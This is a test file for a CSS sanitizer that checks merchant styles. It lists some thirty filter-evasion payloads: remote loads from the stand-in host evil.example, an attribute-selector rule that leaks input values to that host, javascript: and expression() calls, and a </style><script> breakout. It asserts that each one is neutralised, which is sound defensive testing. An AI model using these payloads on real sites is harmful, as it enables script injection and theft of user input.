import { describe, expect, it } from 'vitest';
import { sanitizeCss } from './sanitize-css.js';

const SHOP_ASSETS = ['https://cdn.shop.example'];

/** Known ways to sneak a load, a script or an early </style> past a CSS filter. Every one must come out harmless. */
const EVASIONS = [
  '@import url("https://evil.example/x.css"); a{color:red}',
  "@import 'https://evil.example/x.css';",
  '@impor@import;t url(https://evil.example/x.css);',
  '@IMPORT url(https://evil.example/x.css);',
  '@\\69mport url(https://evil.example/x.css);',
  'a{background:url(https://evil.example/p.png)}',
  "a{background:url('//evil.example/p.png')}",
  'a{background:URL( "https://evil.example/p.png" )}',
  'a{background:u\\72l(https://evil.example/p.png)}',
  'a{background:ur/**/l(https://evil.example/p.png)}',
  'a{background:url(https://evil.example/p.png',
  'a{background:image-set("https://evil.example/p.png" 1x)}',
  'a{background:-webkit-image-set("https://evil.example/p.png" 1x)}',
  'a{background:cross-fade(url(https://evil.example/a.png), url(/b.png), 50%)}',
  'input[value^="a"]{background:url(https://evil.example/log?a)}',
  '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
  'a{background:url(data:image/svg+xml,<svg onload=alert(1)>)}',
  'a{background:url(javascript:alert(1))}',
  'a{width:expression(alert(1))}',
  'a{behavior:url(x.htc)}',
  'a{-moz-binding:url(https://evil.example/x.xml#x)}',
  'a{content:"</style><script>alert(1)</script>"}',
  'a{}</style><script>alert(1)</script>',
  '@namespace url(https://evil.example/ns);',
  '@charset "utf-7"; a{color:red}',
  'a{--leak:url(https://evil.example/p.png);background:var(--leak)}',
  '@media screen{@import url(https://evil.example/x.css);a{background:url(https://evil.example/m.png)}}',
  'a{background:url(https://cdn.shop.example.evil.example/p.png)}',
  'a{background:url(http://cdn.shop.example/p.png)}',
];

describe('merchant CSS', () => {
  it('keeps ordinary styling, our own images and the shop’s asset origins', () => {
    const css = sanitizeCss(
      '.rc-header{color:#123;background:url(/catalogue/a.svg)}@media (min-width:768px){.rc-card{padding:2rem}}' +
        '.rc-login{background-image:url(https://cdn.shop.example/bg.png)}:root{--rc-accent:#0a0}' +
        '.rc-button{color:var(--rc-accent);box-shadow:0 1px 2px rgba(0,0,0,.1);margin-inline-start:calc(1rem + 2px)}',
      SHOP_ASSETS,
    );
    expect(css).toContain(
      ':root{--rc-accent:#0a0}.rc-button{color:var(--rc-accent);box-shadow:0 1px 2px rgba(0,0,0,.1);' +
        'margin-inline-start:calc(1rem + 2px)}',
    );
    expect(css).toContain('.rc-header{color:#123;background:url(/catalogue/a.svg)}');
    expect(css).toContain('@media (min-width:768px){.rc-card{padding:2rem}}');
    expect(css).toContain('url(https://cdn.shop.example/bg.png)');
  });

  it.each(EVASIONS)('makes %s harmless', (attack) => {
    const css = sanitizeCss(attack, SHOP_ASSETS);
    expect(css).not.toMatch(/evil\.example|javascript:|expression\(|behavior|binding|@import|@namespace|<|image-set/i);
  });

  it('keeps the harmless part of a rule whose other declaration is dropped', () => {
    expect(sanitizeCss('a{color:red;background:url(https://evil.example/p.png)}')).toBe('a{color:red}');
  });
});
